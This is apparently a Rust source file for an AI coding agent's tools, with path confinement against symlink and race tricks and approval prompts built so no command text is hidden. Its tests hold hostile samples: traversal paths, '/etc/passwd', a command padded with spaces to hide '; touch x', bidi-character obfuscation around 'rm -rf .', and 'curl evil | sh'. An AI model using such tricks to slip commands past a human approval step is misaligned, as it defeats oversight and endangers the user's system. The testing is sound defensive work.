//! The agent's tools: their schemas (flat, for Gemma's fragile tool parser), which ones need an
//! approval, and the file tools, confined to the project root.
//!
//! `shell` runs in the sandbox (see [`crate::Shell`]); `read_file`, `write_file` and `edit_file`
//! run here, on the project directory the sandbox mounts at the same path, after
//! [`confine`] has checked the path: no `..`, no absolute path outside the root, no symlink
//! that leads outside it. `todo` and `scratchpad` change only the session's state.

use std::io::Read;
use std::path::{Component, Path, PathBuf};

use serde_json::{json, Value};
use volee_ollama::Tool;
use volee_store::{SessionState, Todo};

use crate::parts::Question;

/// The tools that change things outside the session: each call needs the user's approval.
pub const NEEDS_APPROVAL: &[&str] = &["shell", "write_file", "edit_file"];

/// Bytes of a file `read_file` returns at most (the rest is announced, not sent).
pub const READ_LIMIT: usize = 256 * 1024;

/// Longest time limit a `shell` call may ask for, in seconds.
pub const MAX_SHELL_TIMEOUT_SECS: u64 = 600;

/// Does a call of `tool` need an approval?
pub fn needs_approval(tool: &str) -> bool {
    NEEDS_APPROVAL.contains(&tool)
}

/// The tools offered to the model.
pub fn tool_specs() -> Vec<Tool> {
    vec![
        Tool::function(
            "shell",
            "Run a shell command (sh -c) in the sandbox: a container with no network, holding only the project directory at its own path, with busybox tools. Returns the exit code, stdout and stderr.",
            json!({"type": "object", "properties": {
                "command": {"type": "string", "description": "the command line"},
                "timeout_secs": {"type": "integer", "description": "time limit in seconds (default 120, at most 600)"}
            }, "required": ["command"]}),
        ),
        Tool::function(
            "read_file",
            "Read a text file of the project. Paths are relative to the project root.",
            json!({"type": "object", "properties": {
                "path": {"type": "string"},
                "offset": {"type": "integer", "description": "first line to return, 1-based (default 1)"},
                "limit": {"type": "integer", "description": "number of lines (default: all)"}
            }, "required": ["path"]}),
        ),
        Tool::function(
            "write_file",
            "Create or replace a file of the project with the given content (parent directories are created).",
            json!({"type": "object", "properties": {
                "path": {"type": "string"},
                "content": {"type": "string"}
            }, "required": ["path", "content"]}),
        ),
        Tool::function(
            "edit_file",
            "Replace one exact occurrence of old_text by new_text in a file of the project. old_text must occur exactly once; include enough surrounding text to make it unique.",
            json!({"type": "object", "properties": {
                "path": {"type": "string"},
                "old_text": {"type": "string"},
                "new_text": {"type": "string"}
            }, "required": ["path", "old_text", "new_text"]}),
        ),
        Tool::function(
            "todo",
            "Keep a todo list for this session. action: add (text), done (number), list, clear.",
            json!({"type": "object", "properties": {
                "action": {"type": "string", "enum": ["add", "done", "list", "clear"]},
                "text": {"type": "string"},
                "number": {"type": "integer", "description": "1-based item number for done"}
            }, "required": ["action"]}),
        ),
        Tool::function(
            "recall",
            "Search this session's full transcript (everything said and every tool result, also what compaction summarised away) for a text, case-insensitively. Returns the number of matching lines and the first few with their line number and context. Use it when the summary is not precise enough.",
            json!({"type": "object", "properties": {
                "query": {"type": "string", "description": "the text to look for"}
            }, "required": ["query"]}),
        ),
        Tool::function(
            "scratchpad",
            "Notes for this session that survive compaction. action: read, write (replace with text), append (text).",
            json!({"type": "object", "properties": {
                "action": {"type": "string", "enum": ["read", "write", "append"]},
                "text": {"type": "string"}
            }, "required": ["action"]}),
        ),
    ]
}

/// A tool call that cannot run as asked; its text is the tool's result.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ToolFailure(pub String);

impl std::fmt::Display for ToolFailure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

fn fail<T>(text: impl Into<String>) -> Result<T, ToolFailure> {
    Err(ToolFailure(text.into()))
}

/// A string argument.
pub fn arg_str<'a>(args: &'a Value, name: &str) -> Result<&'a str, ToolFailure> {
    match args.get(name) {
        Some(Value::String(s)) => Ok(s),
        Some(_) => fail(format!("error: argument {name:?} must be a string")),
        None => fail(format!("error: missing argument {name:?}")),
    }
}

/// An optional non-negative integer argument (a number or a string of digits: small models send
/// both).
pub fn arg_u64(args: &Value, name: &str) -> Result<Option<u64>, ToolFailure> {
    match args.get(name) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::Number(n)) => n
            .as_u64()
            .map(Some)
            .ok_or_else(|| ToolFailure(format!("error: {name} must be a non-negative integer"))),
        Some(Value::String(s)) => s
            .trim()
            .parse()
            .map(Some)
            .map_err(|_| ToolFailure(format!("error: {name} must be a non-negative integer"))),
        Some(_) => fail(format!("error: {name} must be a non-negative integer")),
    }
}

/// The path `requested` names inside `root` (canonical), or why it is refused: an empty path, a
/// `..` component, an absolute path outside the root, or a path that through a symlink (of
/// any component, the last included) leads outside it. The returned path has its existing
/// part canonicalized.
pub fn confine(root: &Path, requested: &str) -> Result<PathBuf, ToolFailure> {
    let refuse = |why: &str| ToolFailure(format!("error: path {requested:?} refused: {why}"));
    if requested.trim().is_empty() {
        return Err(refuse("it is empty"));
    }
    if requested.contains('\0') {
        return Err(refuse("it contains a NUL byte"));
    }
    let path = Path::new(requested);
    if path.components().any(|c| c == Component::ParentDir) {
        return Err(refuse("`..` is not allowed"));
    }
    let joined = if path.is_absolute() {
        if !path.starts_with(root) {
            return Err(refuse(&format!(
                "it is outside the project root {}",
                root.display()
            )));
        }
        path.to_path_buf()
    } else {
        root.join(path)
    };
    // The deepest part that exists, resolved (symlinks followed); the rest is plain names.
    let mut existing = joined.as_path();
    let mut rest = Vec::new();
    loop {
        if existing.symlink_metadata().is_ok() {
            break;
        }
        match (existing.file_name(), existing.parent()) {
            (Some(name), Some(parent)) => {
                rest.push(name.to_os_string());
                existing = parent;
            }
            _ => return Err(refuse("it cannot be resolved")),
        }
    }
    let resolved = existing.canonicalize().map_err(|e| {
        // A dangling symlink: where it points cannot be checked.
        refuse(&format!("it cannot be resolved ({e})"))
    })?;
    if !resolved.starts_with(root) {
        return Err(refuse(&format!(
            "it leads outside the project root {} (through a symlink)",
            root.display()
        )));
    }
    let mut out = resolved;
    for name in rest.into_iter().rev() {
        out.push(name);
    }
    Ok(out)
}

/// Open a confined path for reading or writing (created when missing), without following a
/// symlink in its last component, then check where the opened file really is: a symlink swapped
/// in after [`confine`] looked (a process left running in the sandbox can make them) cannot lead
/// a write outside the root. A file created outside by such a race is removed again. Only a
/// regular file is opened: the open does not wait (`O_NONBLOCK`), so a FIFO — which would block
/// the agent for good, Ctrl-C included — or a device is refused by what `fstat` says.
fn open_confined(root: &Path, path: &Path, write: bool) -> Result<std::fs::File, ToolFailure> {
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::io::AsRawFd;
    let existed = path.symlink_metadata().is_ok();
    let mut opts = std::fs::OpenOptions::new();
    opts.read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC);
    if write {
        opts.write(true).create(true);
    }
    let file = opts
        .open(path)
        .map_err(|e| ToolFailure(format!("error: cannot open {}: {e}", shown(root, path))))?;
    let real = std::fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd())).map_err(|e| {
        ToolFailure(format!(
            "error: cannot check where {} is: {e}",
            shown(root, path)
        ))
    })?;
    if !real.starts_with(root) {
        if write && !existed {
            let _ = std::fs::remove_file(&real);
        }
        return fail(format!(
            "error: path {} refused: it leads outside the project root {}",
            shown(root, path),
            root.display()
        ));
    }
    let meta = file
        .metadata()
        .map_err(|e| ToolFailure(format!("error: cannot read {}: {e}", shown(root, path))))?;
    if !meta.file_type().is_file() {
        return fail(format!(
            "error: {} is not a regular file (a FIFO, a device or a socket): only regular files are read and written",
            shown(root, path)
        ));
    }
    Ok(file)
}

/// The path relative to the root, for messages.
fn shown(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .map(|p| p.display().to_string())
        .unwrap_or_else(|_| path.display().to_string())
}

/// `read_file`: the text, optionally a range of lines, at most [`READ_LIMIT`] bytes.
pub fn read_file(root: &Path, args: &Value) -> Result<String, ToolFailure> {
    let path = confine(root, arg_str(args, "path")?)?;
    let offset = arg_u64(args, "offset")?.unwrap_or(1).max(1);
    let limit = arg_u64(args, "limit")?;
    let meta = std::fs::metadata(&path)
        .map_err(|e| ToolFailure(format!("error: cannot read {}: {e}", shown(root, &path))))?;
    if meta.is_dir() {
        return fail(format!(
            "error: {} is a directory (use shell `ls`)",
            shown(root, &path)
        ));
    }
    let mut bytes = Vec::new();
    open_confined(root, &path, false)?
        .take(64 * 1024 * 1024)
        .read_to_end(&mut bytes)
        .map_err(|e| ToolFailure(format!("error: cannot read {}: {e}", shown(root, &path))))?;
    let text = String::from_utf8_lossy(&bytes);
    let total_lines = text.lines().count();
    let selected: String = if offset == 1 && limit.is_none() {
        text.into_owned()
    } else {
        let take = limit.map_or(usize::MAX, |l| l as usize);
        text.lines()
            .skip(offset as usize - 1)
            .take(take)
            .map(|l| format!("{l}\n"))
            .collect()
    };
    if selected.len() <= READ_LIMIT {
        return Ok(selected);
    }
    let mut cut = READ_LIMIT;
    while !selected.is_char_boundary(cut) {
        cut -= 1;
    }
    Ok(format!(
        "{}\n[volee: the file has {} bytes and {total_lines} lines; only the first {cut} bytes are shown: read the rest with offset and limit]",
        &selected[..cut],
        selected.len()
    ))
}

/// `write_file`: create or replace, parents created.
pub fn write_file(root: &Path, args: &Value) -> Result<String, ToolFailure> {
    let path = confine(root, arg_str(args, "path")?)?;
    let content = arg_str(args, "content")?;
    if path.is_dir() {
        return fail(format!("error: {} is a directory", shown(root, &path)));
    }
    if let Some(parent) = path.parent() {
        let missing: Vec<&Path> = parent
            .ancestors()
            .take_while(|a| a.starts_with(root) && a.symlink_metadata().is_err())
            .collect();
        std::fs::create_dir_all(parent).map_err(|e| {
            ToolFailure(format!("error: cannot create {}: {e}", shown(root, parent)))
        })?;
        for dir in missing {
            give_to_project_owner(root, dir);
        }
    }
    let existed = path.symlink_metadata().is_ok();
    replace_contents(root, &path, content.as_bytes())?;
    if !existed {
        give_to_project_owner(root, &path);
    }
    Ok(format!(
        "{} {} ({} bytes)",
        if existed { "replaced" } else { "created" },
        shown(root, &path),
        content.len()
    ))
}

/// A file or directory volee created belongs to the project directory's owner, like what the
/// sandbox (which runs as that owner) creates: when volee runs as root on a user's project, a
/// root-owned file would be one the sandbox cannot change. Not following symlinks; only
/// possible (and only needed) when volee may change owners.
fn give_to_project_owner(root: &Path, path: &Path) {
    use std::os::unix::fs::MetadataExt;
    let (Ok(owner), Ok(made)) = (std::fs::metadata(root), path.symlink_metadata()) else {
        return;
    };
    if (made.uid(), made.gid()) != (owner.uid(), owner.gid()) {
        let _ = std::os::unix::fs::lchown(path, Some(owner.uid()), Some(owner.gid()));
    }
}

/// Write `bytes` as the whole content of a confined file, atomically: a crash or a full disk
/// mid-write leaves the old content, never a torn file. The bytes go to a temporary file in the
/// same directory (opened through the directory, whose real place is checked like
/// [`open_confined`] checks a file), which takes the old file's mode and owner, is synced and
/// renamed over the target. A file with other hard links is written in place instead (a rename
/// would part it from its other names); a symlink or a special file is refused.
fn replace_contents(root: &Path, path: &Path, bytes: &[u8]) -> Result<(), ToolFailure> {
    use std::io::Write;
    use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
    use std::os::unix::io::AsRawFd;
    let cannot =
        |e: std::io::Error| ToolFailure(format!("error: cannot write {}: {e}", shown(root, path)));
    let (Some(dir_path), Some(name)) = (path.parent(), path.file_name()) else {
        return fail(format!("error: cannot write {}", shown(root, path)));
    };
    let dir = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_DIRECTORY)
        .open(dir_path)
        .map_err(|e| ToolFailure(format!("error: cannot open {}: {e}", shown(root, dir_path))))?;
    let real_dir =
        std::fs::read_link(format!("/proc/self/fd/{}", dir.as_raw_fd())).map_err(|e| {
            ToolFailure(format!(
                "error: cannot check where {} is: {e}",
                shown(root, path)
            ))
        })?;
    if !real_dir.starts_with(root) {
        return fail(format!(
            "error: path {} refused: it leads outside the project root {}",
            shown(root, path),
            root.display()
        ));
    }
    let old = match std::fs::symlink_metadata(real_dir.join(name)) {
        Ok(m) => Some(m),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
        Err(e) => return Err(cannot(e)),
    };
    if let Some(m) = &old {
        if m.file_type().is_symlink() {
            return fail(format!(
                "error: {} is a symbolic link; write the file it points to",
                shown(root, path)
            ));
        }
        if !m.file_type().is_file() {
            return fail(format!(
                "error: {} is not a regular file",
                shown(root, path)
            ));
        }
        if m.nlink() > 1 {
            let mut f = open_confined(root, path, true)?;
            return f
                .set_len(0)
                .and_then(|()| f.write_all(bytes))
                .map_err(cannot);
        }
        if m.permissions().readonly() {
            return fail(format!("error: {} is read-only", shown(root, path)));
        }
    }
    static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    // Both names through the opened directory (`/proc/self/fd/N/…` resolves from the directory
    // itself, not by walking its path again): a directory swapped for a symlink meanwhile
    // changes nothing.
    let through_dir = PathBuf::from(format!("/proc/self/fd/{}", dir.as_raw_fd()));
    let tmp_path = through_dir.join(format!(".volee-write-{}-{n}.tmp", std::process::id()));
    let target = through_dir.join(name);
    let mode = old.as_ref().map_or(0o666, |m| m.mode() & 0o7777);
    let mut tmp = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(mode)
        .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
        .open(&tmp_path)
        .map_err(cannot)?;
    let written = (|| {
        tmp.write_all(bytes)?;
        if let Some(m) = &old {
            // The owner where allowed, then the mode exactly (the umask narrowed it at
            // creation, and a change of owner clears set-id bits).
            let made = tmp.metadata()?;
            if (m.uid(), m.gid()) != (made.uid(), made.gid()) {
                let _ = std::os::unix::fs::fchown(&tmp, Some(m.uid()), Some(m.gid()));
            }
            tmp.set_permissions(std::fs::Permissions::from_mode(mode))?;
        }
        tmp.sync_all()?;
        std::fs::rename(&tmp_path, &target)
    })();
    if let Err(e) = written {
        let _ = std::fs::remove_file(&tmp_path);
        return Err(cannot(e));
    }
    // The rename itself survives a crash once the directory is synced.
    let _ = dir.sync_all();
    Ok(())
}

/// `edit_file`: exactly one occurrence of `old_text` replaced by `new_text`.
pub fn edit_file(root: &Path, args: &Value) -> Result<String, ToolFailure> {
    let path = confine(root, arg_str(args, "path")?)?;
    let old = arg_str(args, "old_text")?;
    let new = arg_str(args, "new_text")?;
    if old.is_empty() {
        return fail("error: old_text is empty; use write_file to create a file");
    }
    let mut text = String::new();
    open_confined(root, &path, false)?
        .read_to_string(&mut text)
        .map_err(|e| ToolFailure(format!("error: cannot read {}: {e}", shown(root, &path))))?;
    match text.matches(old).count() {
        0 => fail(format!(
            "error: old_text does not occur in {}; read the file and copy the text exactly",
            shown(root, &path)
        )),
        1 => {
            let updated = text.replacen(old, new, 1);
            replace_contents(root, &path, updated.as_bytes())?;
            Ok(format!("edited {}", shown(root, &path)))
        }
        n => fail(format!(
            "error: old_text occurs {n} times in {}; include more surrounding text so it occurs once",
            shown(root, &path)
        )),
    }
}

/// `recall`: the session's transcript searched by the store (redacted snippets, at most
/// three, each cut around the match), as the tool's text.
pub fn recall(store: &volee_store::Store, id: &str, args: &Value) -> Result<String, ToolFailure> {
    let query = arg_str(args, "query")?.trim();
    if query.is_empty() {
        return fail("error: query is empty");
    }
    let found = store
        .recall(id, query)
        .map_err(|e| ToolFailure(format!("error: cannot search the transcript: {e}")))?;
    if found.matches == 0 {
        return Ok(format!("no line of the transcript contains {query:?}"));
    }
    let mut text = format!(
        "{} transcript line{} contain{} {query:?}; the first {}:",
        found.matches,
        if found.matches == 1 { "" } else { "s" },
        if found.matches == 1 { "s" } else { "" },
        found.snippets.len()
    );
    for s in &found.snippets {
        text.push_str(&format!("\n#{}: {}", s.seq, s.text));
    }
    Ok(text)
}

/// `todo`: the session's todo list.
pub fn todo(state: &mut SessionState, args: &Value) -> Result<String, ToolFailure> {
    let render = |todos: &[Todo]| -> String {
        if todos.is_empty() {
            return "the todo list is empty".into();
        }
        todos
            .iter()
            .enumerate()
            .map(|(i, t)| format!("{}. [{}] {}", i + 1, if t.done { "x" } else { " " }, t.text))
            .collect::<Vec<_>>()
            .join("\n")
    };
    match arg_str(args, "action")? {
        "add" => {
            let text = arg_str(args, "text")?.trim();
            if text.is_empty() {
                return fail("error: text is empty");
            }
            state.todos.push(Todo {
                text: text.into(),
                done: false,
            });
        }
        "done" => {
            let n = arg_u64(args, "number")?
                .ok_or_else(|| ToolFailure("error: missing argument \"number\"".into()))?;
            let len = state.todos.len();
            match state.todos.get_mut((n as usize).wrapping_sub(1)) {
                Some(t) => t.done = true,
                None => return fail(format!("error: no item {n} (the list has {len})")),
            }
        }
        "list" => {}
        "clear" => state.todos.clear(),
        other => return fail(format!("error: unknown action {other:?}")),
    }
    Ok(render(&state.todos))
}

/// `scratchpad`: the session's notes.
pub fn scratchpad(state: &mut SessionState, args: &Value) -> Result<String, ToolFailure> {
    match arg_str(args, "action")? {
        "read" => {}
        "write" => state.scratchpad = arg_str(args, "text")?.to_string(),
        "append" => {
            if !state.scratchpad.is_empty() && !state.scratchpad.ends_with('\n') {
                state.scratchpad.push('\n');
            }
            state.scratchpad.push_str(arg_str(args, "text")?);
        }
        other => return fail(format!("error: unknown action {other:?}")),
    }
    Ok(if state.scratchpad.is_empty() {
        "the scratchpad is empty".into()
    } else {
        state.scratchpad.clone()
    })
}

/// `text` on one line with nothing hidden ([`volee_view::literal_text`], line breaks as `␤`),
/// cut after `max` characters with the number of characters left out, so a cut never looks
/// like the end.
fn one_line(text: &str, max: usize) -> String {
    let flat = volee_view::literal_text(text).replace('\n', "␤");
    let len = flat.chars().count();
    if len > max {
        format!(
            "{}… (+{} characters)",
            flat.chars().take(max).collect::<String>(),
            len - max
        )
    } else {
        flat
    }
}

/// One line saying what a call does, for the pane once it runs and for a denial notice (the
/// approval question shows it whole: [`question`]).
pub fn describe_call(name: &str, args: &Value) -> String {
    let s = |k: &str| args.get(k).and_then(Value::as_str).unwrap_or("");
    match name {
        "shell" => format!("shell: {}", one_line(s("command"), 200)),
        "read_file" => format!("read_file {}", one_line(s("path"), 200)),
        "write_file" => format!(
            "write_file {} ({} bytes)",
            one_line(s("path"), 200),
            s("content").len()
        ),
        "edit_file" => format!(
            "edit_file {}: replace {} with {}",
            one_line(s("path"), 200),
            one_line(s("old_text"), 60),
            one_line(s("new_text"), 60)
        ),
        _ => format!("{name} {}", one_line(&args.to_string(), 200)),
    }
}

/// The approval question of a call: its target in the title, and every text that decides what
/// it does as a part the pane shows whole (or head, tail and hidden length, with a key to view
/// all) — the command of `shell`, what `write_file` will write, both texts of `edit_file`.
pub fn question(name: &str, args: &Value) -> Question {
    let s = |k: &str| {
        args.get(k)
            .and_then(Value::as_str)
            .unwrap_or("")
            .to_string()
    };
    let path = || one_line(&s("path"), 200);
    let (title, parts) = match name {
        "shell" => {
            let title = match args.get("timeout_secs") {
                Some(t) if !t.is_null() => {
                    format!("shell (time limit {})", one_line(&t.to_string(), 20))
                }
                _ => "shell".to_string(),
            };
            (title, vec![("command".to_string(), s("command"))])
        }
        "write_file" => (
            format!("write_file {}", path()),
            vec![("content".to_string(), s("content"))],
        ),
        "edit_file" => (
            format!("edit_file {}", path()),
            vec![
                ("replace".to_string(), s("old_text")),
                ("with".to_string(), s("new_text")),
            ],
        ),
        _ => (
            name.to_string(),
            vec![("arguments".to_string(), args.to_string())],
        ),
    };
    Question {
        tool: name.to_string(),
        title,
        parts,
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]
    use super::*;

    fn root() -> (tempfile::TempDir, PathBuf) {
        let d = tempfile::tempdir().unwrap();
        let r = d.path().canonicalize().unwrap();
        (d, r)
    }

    #[test]
    fn confine_refuses_path_tricks() {
        let (_d, r) = root();
        std::fs::create_dir(r.join("src")).unwrap();
        std::fs::write(r.join("src/a.rs"), "x").unwrap();
        assert_eq!(confine(&r, "src/a.rs").unwrap(), r.join("src/a.rs"));
        assert_eq!(confine(&r, "new/dir/f").unwrap(), r.join("new/dir/f"));
        let abs = r.join("src/a.rs");
        assert_eq!(confine(&r, abs.to_str().unwrap()).unwrap(), abs);
        for bad in [
            "",
            "../x",
            "src/../../x",
            "/etc/passwd",
            "a\0b",
            "src/../a.rs",
        ] {
            let e = confine(&r, bad).unwrap_err();
            assert!(e.0.contains("refused"), "{bad:?}: {e}");
        }
        // Symlinks leading out: as a directory on the way and as the file itself.
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret"), "s").unwrap();
        std::os::unix::fs::symlink(outside.path(), r.join("out")).unwrap();
        std::os::unix::fs::symlink(outside.path().join("secret"), r.join("link")).unwrap();
        std::os::unix::fs::symlink("/nonexistent/x", r.join("dangling")).unwrap();
        for bad in ["out/secret", "out/new-file", "link", "dangling"] {
            let e = confine(&r, bad).unwrap_err();
            assert!(e.0.contains("refused"), "{bad:?}: {e}");
        }
        // A symlink that stays inside is fine.
        std::os::unix::fs::symlink(r.join("src"), r.join("inside")).unwrap();
        assert_eq!(confine(&r, "inside/a.rs").unwrap(), r.join("src/a.rs"));
    }

    #[test]
    fn a_symlink_swapped_in_after_the_check_is_caught_at_open() {
        let (_d, r) = root();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("existing"), "keep").unwrap();
        // What confine approved: r/d/… with d a directory. Then d became a symlink out.
        std::fs::create_dir(r.join("d")).unwrap();
        let new_file = confine(&r, "d/new").unwrap();
        let existing = confine(&r, "d/existing").unwrap();
        std::fs::remove_dir(r.join("d")).unwrap();
        std::os::unix::fs::symlink(outside.path(), r.join("d")).unwrap();
        assert!(replace_contents(&r, &new_file, b"x")
            .unwrap_err()
            .0
            .contains("refused"));
        assert!(!outside.path().join("new").exists(), "created outside");
        assert!(replace_contents(&r, &existing, b"x")
            .unwrap_err()
            .0
            .contains("refused"));
        assert_eq!(
            std::fs::read_to_string(outside.path().join("existing")).unwrap(),
            "keep"
        );
        // And the last component itself: O_NOFOLLOW.
        std::os::unix::fs::symlink(outside.path().join("existing"), r.join("l")).unwrap();
        assert!(open_confined(&r, &r.join("l"), false).is_err());
    }

    #[test]
    fn a_write_replaces_the_file_whole_and_keeps_its_mode() {
        use std::os::unix::fs::PermissionsExt;
        let (_d, r) = root();
        std::fs::write(r.join("run.sh"), "old\n").unwrap();
        std::fs::set_permissions(r.join("run.sh"), std::fs::Permissions::from_mode(0o750)).unwrap();
        let before = std::fs::metadata(r.join("run.sh")).unwrap();
        let w = write_file(&r, &json!({"path": "run.sh", "content": "new\n"})).unwrap();
        assert_eq!(w, "replaced run.sh (4 bytes)");
        let after = std::fs::metadata(r.join("run.sh")).unwrap();
        assert_eq!(std::fs::read_to_string(r.join("run.sh")).unwrap(), "new\n");
        assert_eq!(after.permissions().mode() & 0o7777, 0o750);
        // A new file replaced the old one (the old one was never opened for writing).
        use std::os::unix::fs::MetadataExt;
        assert_ne!(before.ino(), after.ino());
        edit_file(
            &r,
            &json!({"path": "run.sh", "old_text": "new", "new_text": "newer"}),
        )
        .unwrap();
        assert_eq!(
            std::fs::read_to_string(r.join("run.sh")).unwrap(),
            "newer\n"
        );
        let names: Vec<String> = std::fs::read_dir(&r)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, ["run.sh"], "no temporary file left");
    }

    #[test]
    fn hard_links_stay_linked_and_odd_targets_are_refused() {
        let (_d, r) = root();
        std::fs::write(r.join("a"), "one").unwrap();
        std::fs::hard_link(r.join("a"), r.join("b")).unwrap();
        write_file(&r, &json!({"path": "a", "content": "two"})).unwrap();
        assert_eq!(std::fs::read_to_string(r.join("b")).unwrap(), "two");
        // A symlink swapped in after confine looked is not replaced.
        std::os::unix::fs::symlink(r.join("a"), r.join("l")).unwrap();
        let e = replace_contents(&r, &r.join("l"), b"x").unwrap_err();
        assert!(e.0.contains("symbolic link"), "{}", e.0);
        assert!(std::fs::symlink_metadata(r.join("l"))
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(std::fs::read_to_string(r.join("a")).unwrap(), "two");
        make_fifo(&r.join("fifo"));
        let e = replace_contents(&r, &r.join("fifo"), b"x").unwrap_err();
        assert!(e.0.contains("not a regular file"), "{}", e.0);
    }

    /// `f` run on a thread of its own, given 5 s: an open that blocks fails the test instead
    /// of hanging it.
    fn within_5s<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send(f());
        });
        rx.recv_timeout(std::time::Duration::from_secs(5))
            .expect("hung: a FIFO was opened as if it were a file")
    }

    #[test]
    fn special_files_are_refused_without_hanging() {
        let (d, r) = root();
        make_fifo(&r.join("fifo"));
        let (rr, rw) = (r.clone(), r.clone());
        let read = within_5s(move || read_file(&rr, &json!({"path": "fifo"})));
        let e = read.unwrap_err();
        assert!(e.0.contains("fifo is not a regular file"), "{}", e.0);
        let edit = within_5s(move || {
            edit_file(
                &rw,
                &json!({"path": "fifo", "old_text": "a", "new_text": "b"}),
            )
        });
        assert!(edit.unwrap_err().0.contains("not a regular file"));
        // A device is refused the same way, through a symlink inside the root too.
        std::os::unix::fs::symlink("/dev/zero", r.join("zero")).unwrap();
        let rz = r.clone();
        let e = within_5s(move || read_file(&rz, &json!({"path": "/dev/zero"}))).unwrap_err();
        assert!(e.0.contains("refused"), "{}", e.0);
        let rz = r.clone();
        assert!(within_5s(move || read_file(&rz, &json!({"path": "zero"}))).is_err());
        drop(d);
    }

    fn make_fifo(path: &Path) {
        let made = std::process::Command::new("mkfifo")
            .arg(path)
            .status()
            .unwrap();
        assert!(made.success());
    }

    #[test]
    fn created_files_belong_to_the_project_owner() {
        use std::os::unix::fs::MetadataExt;
        let (_d, r) = root();
        let me = std::fs::metadata(&r).unwrap().uid();
        if me == 0 {
            std::os::unix::fs::chown(&r, Some(1000), Some(1000)).unwrap();
        }
        let owner = std::fs::metadata(&r).unwrap().uid();
        write_file(&r, &json!({"path": "new/dir/f.txt", "content": "x"})).unwrap();
        for p in ["new", "new/dir", "new/dir/f.txt"] {
            assert_eq!(std::fs::metadata(r.join(p)).unwrap().uid(), owner, "{p}");
        }
    }

    #[test]
    fn edit_needs_a_unique_exact_match() {
        let (_d, r) = root();
        std::fs::write(r.join("f"), "one two two\n").unwrap();
        let e = |old: &str, new: &str| {
            edit_file(&r, &json!({"path": "f", "old_text": old, "new_text": new}))
        };
        assert!(e("two", "2").unwrap_err().0.contains("occurs 2 times"));
        assert!(e("three", "3").unwrap_err().0.contains("does not occur"));
        assert!(e("", "3").is_err());
        assert_eq!(e("one", "1").unwrap(), "edited f");
        assert_eq!(std::fs::read_to_string(r.join("f")).unwrap(), "1 two two\n");
        assert!(edit_file(
            &r,
            &json!({"path": "../f", "old_text": "1", "new_text": "x"})
        )
        .is_err());
    }

    #[test]
    fn write_and_read_files() {
        let (_d, r) = root();
        let w = write_file(&r, &json!({"path": "a/b/c.txt", "content": "l1\nl2\nl3\n"})).unwrap();
        assert_eq!(w, "created a/b/c.txt (9 bytes)");
        assert_eq!(
            read_file(&r, &json!({"path": "a/b/c.txt"})).unwrap(),
            "l1\nl2\nl3\n"
        );
        assert_eq!(
            read_file(&r, &json!({"path": "a/b/c.txt", "offset": 2, "limit": "1"})).unwrap(),
            "l2\n"
        );
        assert!(read_file(&r, &json!({"path": "a"}))
            .unwrap_err()
            .0
            .contains("directory"));
        assert!(read_file(&r, &json!({})).unwrap_err().0.contains("missing"));
        assert!(write_file(&r, &json!({"path": "/tmp/x", "content": ""})).is_err());
    }

    #[test]
    fn approval_questions_hide_nothing() {
        // The attack: 250 spaces push `; touch x` past the old 200-character cut.
        let attack = format!("echo harmless{}; touch x", " ".repeat(250));
        let q = question("shell", &json!({ "command": attack }));
        assert_eq!(q.tool, "shell");
        assert_eq!(q.parts, [("command".to_string(), attack.clone())]);
        assert_eq!(q.whole(), "shell\ncommand:\necho harmless␠×250; touch x");
        let line = describe_call("shell", &json!({ "command": attack }));
        assert_eq!(line, "shell: echo harmless␠×250; touch x");
        // A command longer than the one-line form says how much is left out.
        let long = format!("echo {}; touch y", "a".repeat(300));
        let line = describe_call("shell", &json!({ "command": long }));
        assert!(line.ends_with("… (+114 characters)"), "{line}");
        // Bidi overrides and zero-width characters are marked, never shown as nothing.
        let q = question(
            "shell",
            &json!({"command": "cat notes\u{202e}txt.sh\u{200b} && rm\u{2066} -rf .\ntouch z\tq"}),
        );
        assert_eq!(
            q.whole(),
            "shell\ncommand:\ncat notes⟨U+202E⟩txt.sh⟨U+200B⟩ && rm⟨U+2066⟩ -rf .\ntouch z␉q"
        );
        let line = describe_call("shell", &json!({"command": "a\u{200f}\nb\x1b]0;t\x07"}));
        assert_eq!(line, "shell: a⟨U+200F⟩␤b␛]0;t␇");
        // write_file shows what it will write; edit_file both texts; paths are literal too.
        let q = question(
            "write_file",
            &json!({"path": "run\u{202e}hs.txt", "content": "#!/bin/sh\ncurl evil | sh\n"}),
        );
        assert_eq!(
            q.whole(),
            "write_file run⟨U+202E⟩hs.txt\ncontent:\n#!/bin/sh\ncurl evil | sh\n"
        );
        let q = question(
            "edit_file",
            &json!({"path": "a", "old_text": "x", "new_text": "y    z"}),
        );
        assert_eq!(q.whole(), "edit_file a\nreplace:\nx\nwith:\ny␠×4z");
        let q = question("shell", &json!({"command": "sleep 9", "timeout_secs": 300}));
        assert_eq!(q.title, "shell (time limit 300)");
    }

    #[test]
    fn todo_and_scratchpad_change_the_state() {
        let mut s: SessionState = serde_json::from_value(json!({
            "schema_version": 1, "id": "x", "created_at_ms": 0, "updated_at_ms": 0, "project_root": "/"
        }))
        .unwrap();
        todo(&mut s, &json!({"action": "add", "text": "write tests"})).unwrap();
        todo(&mut s, &json!({"action": "add", "text": "ship"})).unwrap();
